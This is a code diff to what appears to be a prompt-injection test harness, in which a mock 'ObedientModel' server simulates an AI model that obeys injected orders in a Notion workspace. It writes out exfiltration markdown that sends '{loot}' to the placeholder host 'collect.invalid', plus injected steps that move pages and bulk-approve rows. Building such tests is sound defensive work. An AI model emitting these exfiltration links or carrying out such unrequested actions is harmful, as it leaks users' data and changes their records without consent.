@@ -18,6 +18,7 @@ from tests.support.http_loopback import Handler, HttpServer
 Json = dict[str, Any]
 EVIL = "collect.invalid"
 _TAGS = 0xE0000
+_MOST = re.compile(r"maxLength (\d+)")
 
 
 @dataclass(frozen=True)
@@ -110,8 +111,10 @@ class ObedientModel(HttpServer):
         leak = f"OWNED ![x](https://{EVIL}/p.png?d={loot}) <https://{EVIL}/?q={loot}> {loot}" if orders else "fine"
         made = _filled(schema, schema, leak)
         if "steps" in made:
-            ordered = [step for order in orders for step in steps_for(order, self.targets)]
-            made["steps"] = ordered or benign(self.targets)
+            ordered = {step["id"]: step for order in orders for step in steps_for(order, self.targets)}
+            made["steps"] = list(ordered.values()) or benign(
+                self.targets
+            )  # one order in many places: a plan that holds
             made |= {name: [] for name in ("questions", "requirements") if name in made}
         return dict(made)
 
@@ -138,7 +141,9 @@ def steps_for(order: Injection, targets: Mapping[str, str]) -> list[Json]:
         case "move":
             return [_step("a", "notion.move_page", page=victim, to_page=page)]
         case "approve_rows":
-            return [_step("a", "notion.update_rows", data_source=source, set={"Status": "Approved"}, at_most=100)]
+            every = {"property": "Name", "title": {"is_not_empty": True}}
+            given = {"data_source": source, "filter": every, "set": {"Status": "Approved"}, "at_most": 100}
+            return [_step("a", "notion.update_rows", **given)]
         case "approve_self":
             return [_step("a", "notion.update_page", page=page, properties={"Status": "Approved"})]
         case "exfil_image":
@@ -202,4 +207,5 @@ def _filled(schema: Json, root: Json, text: str) -> Any:
         case "boolean":
             return True
         case _:
-            return text[:60] if schema.get("maxLength", 999) < len(text) else text
+            told = _MOST.search(schema.get("description", ""))  # a strict endpoint is told it in words
+            return text[:60] if told is not None and int(told[1]) < len(text) else text
